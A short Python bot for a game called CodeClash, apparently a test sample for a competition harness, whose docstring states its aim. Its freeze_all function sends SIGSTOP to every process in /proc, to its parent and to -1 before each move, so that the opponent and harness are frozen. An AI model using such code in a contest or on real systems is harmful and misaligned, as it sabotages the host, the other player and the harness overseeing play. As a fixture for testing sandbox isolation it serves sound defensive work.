"""A CodeClash bot that tries to freeze every other process it can name:
SIGSTOP to every pid in /proc but its own, to its parent, and to -1. It
plays straight on, so that its honest opponent wins only if it is not
frozen."""
import os
import signal

def freeze_all():
    me = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            try:
                os.kill(int(name), signal.SIGSTOP)
            except OSError:
                pass
    for target in (os.getppid(), -1):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass

def get_move(obs):
    freeze_all()
    return obs["players"][obs["you"]]["dir"]
